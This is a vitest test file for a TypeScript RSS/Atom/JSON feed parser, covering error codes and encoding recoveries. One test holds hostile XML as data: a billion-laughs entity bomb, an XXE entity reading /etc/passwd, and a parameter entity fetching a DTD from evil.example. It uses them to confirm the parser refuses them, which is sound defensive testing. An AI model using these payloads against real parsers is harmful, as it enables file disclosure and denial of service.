import { describe, expect, it } from 'vitest';
import { FeedParseError, type FeedParseErrorCode } from '../../../src/ingest/parse/feed-parse-error.js';
import { parseFeed, type ParseFeedOptions } from '../../../src/ingest/parse/parse-feed.js';

function failure(input: Uint8Array | string, options?: ParseFeedOptions): FeedParseError {
  try {
    parseFeed(input, options);
  } catch (error) {
    if (error instanceof FeedParseError) return error;
    throw error;
  }
  throw new Error('expected a FeedParseError');
}

function expectCode(input: Uint8Array | string, code: FeedParseErrorCode, options?: ParseFeedOptions): FeedParseError {
  const error = failure(input, options);
  expect(error.code).toBe(code);
  expect(error.message.startsWith(`${code}: `)).toBe(true);
  return error;
}

const RSS_HEAD = '<?xml version="1.0"?>\n<rss version="2.0">\n<channel>\n<title>T</title>\n';

describe('parseFeed errors', () => {
  it('EMPTY for no bytes and for whitespace only', () => {
    expectCode(new Uint8Array(), 'EMPTY');
    expect(expectCode('  \n\t ', 'EMPTY').message).toBe('EMPTY: input contains only whitespace');
  });

  it('TOO_LARGE before parsing, from the byte length', () => {
    const big = new Uint8Array(50 * 1024 * 1024).fill(0x20);
    const error = expectCode(big, 'TOO_LARGE');
    expect(error.message).toContain('52428800 bytes');
    expectCode(RSS_HEAD + '</channel></rss>', 'TOO_LARGE', { maxBytes: 10 });
    expectCode('é'.repeat(8), 'TOO_LARGE', { maxBytes: 10 });
  });

  it('MALFORMED_XML with line and column for a truncated feed', () => {
    const error = expectCode(RSS_HEAD + '<item>\n  <title>Half', 'MALFORMED_XML');
    expect(error.message).toBe('MALFORMED_XML: unclosed <title> at line 6, column 3');
    expect([error.line, error.column]).toEqual([6, 3]);
    const item = expectCode(RSS_HEAD + '<item>\n<title>Whole</title>\n', 'MALFORMED_XML');
    expect(item.message).toBe('MALFORMED_XML: unclosed <item> at line 5, column 1');
  });

  it('MALFORMED_XML for absurd nesting', () => {
    expectCode('<rss>' + '<a>'.repeat(1000) + '</a>'.repeat(1000) + '</rss>', 'MALFORMED_XML');
  });

  it('HTML_PAGE names the feeds the page advertises', () => {
    const page = '<!DOCTYPE html><html><head><link rel="alternate" type="application/rss+xml" href="/feed.xml"></head><body><p>Hi</body></html>';
    expect(expectCode(page, 'HTML_PAGE').message).toBe('HTML_PAGE: input is an HTML page, not a feed; it advertises feed(s): /feed.xml');
    expectCode('<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', 'HTML_PAGE');
  });

  it('BINARY for images and compressed bodies', () => {
    const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
    expect(expectCode(png, 'BINARY').message).toBe('BINARY: input is a PNG image, not a feed');
    expectCode(Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 1, 2, 3]), 'BINARY');
    expectCode(Uint8Array.from([0x1f, 0x8b, 8, 0, 0, 0]), 'BINARY');
    const noise = Uint8Array.from({ length: 600 }, (_, i) => (i * 7919) % 32);
    expectCode(noise, 'BINARY');
  });

  it('NOT_A_FEED for other XML roots and for plain text', () => {
    expect(expectCode('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', 'NOT_A_FEED').message).toBe(
      'NOT_A_FEED: root element <svg> is not RSS, RDF or Atom',
    );
    expectCode('just some text', 'NOT_A_FEED');
    expectCode('{"hello": "world"}', 'NOT_A_FEED');
    expectCode('[1, 2]', 'NOT_A_FEED');
  });

  it('INVALID_JSON with a position', () => {
    const error = expectCode('{\n  "version": "https://jsonfeed.org/version/1.1",\n  "items": [,]\n}', 'INVALID_JSON');
    expect(error.line).toBe(3);
    expect(error.column).toBeGreaterThan(0);
    expect(error.message).toMatch(/^INVALID_JSON: .+ at line 3, column \d+$/);
  });

  it('DOCTYPE_ENTITIES_REFUSED for billion laughs and XXE', () => {
    const lol = ['<!ENTITY lol "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`)].join('\n');
    const billion = `<?xml version="1.0"?>\n<!DOCTYPE rss [\n${lol}\n]>\n<rss version="2.0"><channel><title>&lol9;</title></channel></rss>`;
    const error = expectCode(billion, 'DOCTYPE_ENTITIES_REFUSED');
    expect([error.line, error.column]).toEqual([2, 1]);
    const xxe = '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss><channel><title>&xxe;</title></channel></rss>';
    expectCode(xxe, 'DOCTYPE_ENTITIES_REFUSED');
    const parameter = '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><rss/>';
    expectCode(parameter, 'DOCTYPE_ENTITIES_REFUSED');
  });

  it('a DOCTYPE without entities is fine, and undefined entities stay literal with a warning', () => {
    const feed = parseFeed('<!DOCTYPE rss SYSTEM "http://example.com/rss.dtd">\n<rss version="2.0"><channel><title>A &xxe; B</title></channel></rss>');
    expect(feed.title).toBe('A &xxe; B');
    expect(feed.warnings.map((w) => w.message)).toContain('undefined entity &xxe; (kept as text)');
  });

  it('UNSUPPORTED_ENCODING for an unknown declared encoding on non-UTF-8 bytes', () => {
    const head = new TextEncoder().encode('<?xml version="1.0" encoding="x-klingon"?><rss><channel><title>');
    const bytes = new Uint8Array([...head, 0xff, 0xfe, 0xfd, ...new TextEncoder().encode('</title></channel></rss>')]);
    expect(expectCode(bytes, 'UNSUPPORTED_ENCODING').message).toBe(
      'UNSUPPORTED_ENCODING: the XML declaration names encoding "x-klingon", which is not supported',
    );
  });
});

describe('parseFeed recoveries (warnings, not errors)', () => {
  it('HTML entities inside XML are decoded with a warning', () => {
    const feed = parseFeed(RSS_HEAD.replace('<title>T</title>', '<title>Caf&eacute;&nbsp;Noir</title>') + '</channel></rss>');
    expect(feed.title).toBe('Café\u00a0Noir');
    expect(feed.warnings[0]?.message).toBe('HTML entity &eacute; is not defined in XML (decoded as HTML)');
    expect(feed.warnings[0]?.line).toBe(4);
  });

  it('an unknown encoding label on valid UTF-8 bytes decodes as UTF-8 with a warning', () => {
    const feed = parseFeed(new TextEncoder().encode('<?xml version="1.0" encoding="bogus"?><rss><channel><title>Ünïcode</title></channel></rss>'));
    expect(feed.title).toBe('Ünïcode');
    expect(feed.encoding).toBe('utf-8');
    expect(feed.warnings[0]?.message).toContain('unknown encoding "bogus"');
  });

  it('decodes UTF-16 with BOM, UTF-32 without BOM and the HTTP charset', () => {
    const xml = '<?xml version="1.0"?><rss version="2.0"><channel><title>Ωmega</title></channel></rss>';
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]);
    expect(parseFeed(utf16)).toMatchObject({ title: 'Ωmega', encoding: 'utf-16le' });
    const utf32 = new Uint8Array(xml.length * 4);
    const view = new DataView(utf32.buffer);
    [...xml].forEach((ch, i) => view.setUint32(i * 4, ch.codePointAt(0) ?? 0, false));
    expect(parseFeed(utf32)).toMatchObject({ title: 'Ωmega', encoding: 'utf-32be' });
    const latin = Buffer.from('<rss><channel><title>Caf\u00e9</title></channel></rss>', 'latin1');
    expect(parseFeed(latin, { headers: { 'content-type': 'application/rss+xml; charset=ISO-8859-1' } })).toMatchObject({ title: 'Café', encoding: 'iso-8859-1' });
  });

  it('resolves relative links against xml:base, then the feed URL', () => {
    const feed = parseFeed('<rss><channel><link>/home</link><item><link>a/b</link></item></channel></rss>', { url: 'https://news.example/feeds/main.xml' });
    expect(feed.link).toBe('https://news.example/home');
    expect(feed.items[0]?.url).toBe('https://news.example/feeds/a/b');
  });
});
